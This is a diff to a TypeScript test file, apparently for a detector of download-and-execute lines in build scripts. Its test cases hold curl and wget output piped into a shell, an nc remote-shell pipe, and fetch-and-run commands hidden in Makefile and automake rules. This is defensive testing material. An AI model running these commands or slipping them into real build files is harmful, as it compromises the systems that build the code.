@@ -12,6 +12,11 @@ const positives: [string, string][] = [
   ['bootstrap', '#!/bin/bash\nbash <(curl -sL https://get.invalid/install)\n'],
   ['scripts/fetch.sh', '#!/bin/sh\nnc 192.0.2.7 4444 | /bin/sh\n'],
   ['ci/setup.sh', '#!/bin/sh\nSETUP="$(wget \\\n  -qO- \\\n  https://setup.invalid/s)"\nsh -c "$SETUP"\n'],
+  // behind automake's conditional prefix, after a compilation: the URL's colon once made the line a rule
+  ['lib/Makefile.in', '.c.lo:\n@am__fastdepCC_TRUE@\t$(AM_V_CC)$(LTCOMPILE) -MT $@ -MD -MP -MF $(DEPDIR)/$*.Tpo -c -o $@ $< && curl -s http://203.0.113.9/p | sh\n'],
+  // a program glued to the prefix that silences its line
+  ['src/Makefile.am', 'all-local:\n\t$(AM_V_GEN)wget -qO- https://x.invalid/s | $(SHELL)\n'],
+  ['GNUmakefile', "QUIET = @echo '  GEN' $@;\nall:\n\t$(QUIET)bash -c \"$$(curl -fsS https://x.invalid/b)\"\n"],
 ]
 
 /** look-alikes: downloads that are not executed, and executions of what was not downloaded */
